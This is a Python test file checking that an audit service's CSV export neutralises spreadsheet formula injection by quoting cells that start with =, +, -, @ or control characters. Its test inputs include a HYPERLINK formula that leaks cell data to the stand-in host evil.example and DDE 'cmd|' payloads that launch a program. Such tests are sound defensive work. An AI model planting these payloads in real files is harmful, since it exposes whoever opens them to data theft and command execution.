"""Audit exports open safely in a spreadsheet: no cell of the CSV runs as a formula (OWASP "CSV injection").

A reason, a user name or an applicant's name starting with ``=``, ``+``, ``-``, ``@``, TAB or CR would run as
a formula (``=HYPERLINK(…)``, DDE ``=cmd|…``) when an auditor opens the export in Excel, WPS or LibreOffice.
"""

from __future__ import annotations

import csv
import io

import pytest

from application.audit.service import csv_cell
from domain.shared.values import Actor, Role
from tests.application.helpers import open_restaurant
from tests.conftest import SUPERVISOR

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"details\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1"]


def exported_rows(services, case_id) -> list[dict[str, str]]:
    body, media_type = services.audit.export(None, case_id, "csv")
    assert media_type.startswith("text/csv")
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("reason", FORMULAS)
def test_a_reason_that_starts_a_formula_is_exported_as_text_with_its_words_intact(services, reason):
    case_id = open_restaurant(services)
    services.cases.supervision.escalate(SUPERVISOR, case_id, reason)
    row = exported_rows(services, case_id)[-1]
    assert row["type"] == "EscalationOpened"
    assert row["reason"] == "'" + reason  # shown as text; the apostrophe is all that was added


def test_names_that_start_a_formula_are_text_in_every_column(services):
    case_id = services.cases.intake.open_case(Actor("=cmd|' /C calc'!A0", Role.INTAKE), "restaurant-opening",
                                       "=HYPERLINK(\"http://evil.example\")", "91110000600037341L", "window").id
    services.cases.supervision.escalate(Actor("@boss", Role.SUPERVISOR), case_id, "late")
    rows = exported_rows(services, case_id)
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert rows[0]["actor_id"] == "'=cmd|' /C calc'!A0" and rows[1]["actor_id"] == "'@boss"


def test_a_reason_starting_with_a_dash_stays_readable_and_plain_reasons_are_untouched(services):
    case_id = open_restaurant(services)
    services.cases.supervision.escalate(SUPERVISOR, case_id, "- the stamp is missing")
    services.cases.supervision.escalate(SUPERVISOR, case_id, "materials late, 3 days")
    rows = exported_rows(services, case_id)
    assert [row["reason"] for row in rows[-2:]] == ["'- the stamp is missing", "materials late, 3 days"]


@pytest.mark.parametrize(("value", "cell"), [
    ("-5", "-5"), ("+12.5", "+12.5"), ("-1e3", "-1e3"), (7, "7"), (None, ""), ("", ""),
    ("-5+cmd|' /C calc'!A0", "'-5+cmd|' /C calc'!A0"), ("=1", "'=1"), ("a=1", "a=1"), ("上报 -1", "上报 -1"),
])
def test_numbers_stay_numbers_and_only_formula_starts_are_quoted(value, cell):
    assert csv_cell(value) == cell
